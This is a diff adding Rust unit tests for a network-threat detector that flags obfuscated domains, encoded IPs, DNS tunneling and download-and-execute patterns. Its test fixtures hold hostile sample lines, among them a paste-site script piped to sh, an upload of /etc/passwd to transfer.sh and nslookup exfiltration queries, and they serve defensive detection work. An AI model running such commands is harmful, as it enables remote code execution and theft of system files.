+    fn test_concatenated_domain() {
+        let detector = NetworkDetector::new();
+        let code = r#"const host = "ma" + "lware" + ".xyz"; fetch("https://" + host);"#;
+
+        let findings = detector.detect_assembled_domain(Path::new("stage.js"), code);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].value["host"], "malware.xyz");
+        assert_eq!(findings[0].value["technique"], "concatenation");
+        assert_eq!(findings[0].severity, Severity::High);
+    }
+
+    #[test]
+    fn test_char_code_and_array_domains() {
+        let detector = NetworkDetector::new();
+        // "evil.ru"
+        let code = "var a = String.fromCharCode(101, 118, 105, 108, 46, 114, 117);\n\
+                    var b = ['c','2','.','t','o','p'].join('');";
+
+        let findings = detector.detect_assembled_domain(Path::new("x.js"), code);
+        let hosts: Vec<_> = findings.iter().map(|f| f.value["host"].as_str().unwrap()).collect();
+        assert_eq!(hosts, vec!["evil.ru", "c2.top"]);
+    }
+
+    #[test]
+    fn test_plain_concatenation_is_ignored() {
+        let detector = NetworkDetector::new();
+        let code = r#"log("Saved " + "report" + ".txt"); let u = "https://example.com" + "/path";"#;
+
+        assert!(detector.detect_assembled_domain(Path::new("x.js"), code).is_empty());
+    }
+
+    #[test]
+    fn test_paste_site_piped_to_shell() {
+        let detector = NetworkDetector::new();
+        let script = "#!/bin/sh\n\
+            curl -fsSL https://pastebin.com/raw/Xy12AbCd | sh\n\
+            curl -F 'f=@/etc/passwd' https://transfer.sh/up\n";
+
+        let findings = detector.detect_suspicious_hosting(Path::new("stage.sh"), script);
+        assert_eq!(findings.len(), 2);
+        assert_eq!(findings[0].finding_type, "suspicious_hosting_endpoint");
+        assert_eq!(findings[0].severity, Severity::High);
+        assert_eq!(findings[0].value["url"], "https://pastebin.com/raw/Xy12AbCd");
+        assert_eq!(findings[0].value["kind"], "paste");
+        assert_eq!(findings[0].value["line"], 2);
+        assert_eq!(findings[1].value["domain"], "transfer.sh");
+    }
+
+    #[test]
+    fn test_hosting_link_without_execution_is_medium() {
+        let detector = NetworkDetector::new();
+        let readme = "Slides: https://bit.ly/3xYzAbc\n\
+            Mirror: https://notpastebin.com/raw/1 and https://github.com/org/repo\n";
+
+        let findings = detector.detect_suspicious_hosting(Path::new("README.md"), readme);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].severity, Severity::Medium);
+        assert_eq!(findings[0].value["kind"], "shortener");
+        assert_eq!(findings[0].value["download_and_execute"], false);
+    }
+
+    #[test]
+    fn test_pipe_to_shell() {
+        let detector = NetworkDetector::new();
+        let findings = detector.detect_unverified_download_exec(
+            Path::new("README.md"),
+            "curl -sL https://get.example.io | sudo bash",
+        );
+
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].value["piped_to_shell"], true);
+    }
+
+    #[test]
+    fn test_encoded_ipv4_decoded_before_exclusions() {
+        let detector = NetworkDetector::new();
+
+        let hex = NetworkDetector::decode_encoded_ipv4("0x7f000001").unwrap();
+        assert_eq!(hex, (Ipv4Addr::new(127, 0, 0, 1), "hex"));
+        let dword = NetworkDetector::decode_encoded_ipv4("2130706433").unwrap();
+        assert_eq!(dword, (Ipv4Addr::new(127, 0, 0, 1), "dword"));
+
+        // Loopback stays excluded once decoded
+        let code = "s.connect((0x7f000001, 80))\nfetch('http://2130706433/')\n";
+        assert!(detector.detect_encoded_ips(Path::new("a.py"), code).is_empty());
+
+        let code = "s.connect((0xcb007109, 4444))\nfetch('http://3405803785/gate')\n";
+        let findings = detector.detect_encoded_ips(Path::new("a.py"), code);
+        assert_eq!(findings.len(), 1);
+        let addresses = findings[0].value["addresses"].as_array().unwrap();
+        assert_eq!(addresses[0]["ip"], "203.0.113.9");
+        assert_eq!(addresses[0]["encoding"], "hex");
+        assert_eq!(addresses[1]["ip"], "203.0.113.9");
+        assert_eq!(addresses[1]["line"], 2);
+
+        // Large integers away from networking code are just numbers
+        let code = "let total = 3405803785;\nlet mask = 0xcb007109;\n";
+        assert!(detector.detect_encoded_ips(Path::new("a.rs"), code).is_empty());
+
+        // Nor are IDs in links, even next to a real call
+        let code = "// https://stackoverflow.com/a/59036879, index.php?oldid=1114309368\n\
+                    let stream = TcpStream::connect(addr)?;\n\
+                    // fixed in #1114309368 (rev-3405803785), https://github.com/o/r/pull/59036879\n";
+        assert!(detector.detect_encoded_ips(Path::new("a.rs"), code).is_empty());
+    }
+
+    #[test]
+    fn test_ipv6_addresses() {
+        let detector = NetworkDetector::new();
+        let code = "fetch('http://[2001:db8::1]:8080/');\n\
+                    bind('::1'); peer = 'fe80::1%eth0';\n\
+                    use std::fs::File; at 12:30:45 mac aa:bb:cc:dd:ee:ff\n\
+                    upstream 2001:0DB8:0000:0000:0000:0000:0000:0002;\n";
+
+        let findings = detector.detect_hardcoded_ips(Path::new("a.js"), code);
+        assert_eq!(findings.len(), 1);
+        let mut ips: Vec<&str> = findings[0].value["ips"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|v| v.as_str().unwrap())
+            .collect();
+        ips.sort();
+        assert_eq!(ips, ["2001:db8::1", "2001:db8::2"]);
+    }
+
+    #[test]
+    fn test_dns_tunnel_vs_cdn_hosts() {
+        let detector = NetworkDetector::new();
+        let path = Path::new("hosts.txt");
+
+        let cdn = "https://d3f1a9b2c4e5f6.cloudfront.net/app.js\n\
+                   https://rr3---sn-4g5e6nz7.googlevideo.com/videoplayback\n\
+                   https://my-assets-bucket.s3.amazonaws.com/logo.png\n\
+                   https://a1234.dscb.akamai.net/img.png\n\
+                   https://thisisaverylongbutperfectlyreadablename.example.co.uk/\n";
+        assert!(detector.detect_dns_tunneling(path, cdn).is_empty());
+
+        let queries: String = (0..6u32)
+            .map(|i| format!("nslookup {:x}.t.tun-relay.net\n", md5::compute(i.to_le_bytes())))
+            .collect();
+        let findings = detector.detect_dns_tunneling(path, &queries);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].severity, Severity::High);
+        assert_eq!(findings[0].value["apex"], "tun-relay.net");
+        assert_eq!(findings[0].value["encoded_subdomains"], 6);
+        assert_eq!(findings[0].value["samples"].as_array().unwrap().len(), 5);
+
+        // One base32 chunk on its own is weaker evidence
+        let single = "dig TXT mzxw6ytboi2gs3thmfzgk3dpnyxgc3tf.exfil.example.org";
+        let findings = detector.detect_dns_tunneling(path, single);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].severity, Severity::Medium);
+        assert_eq!(findings[0].value["apex"], "example.org");
+    }
+}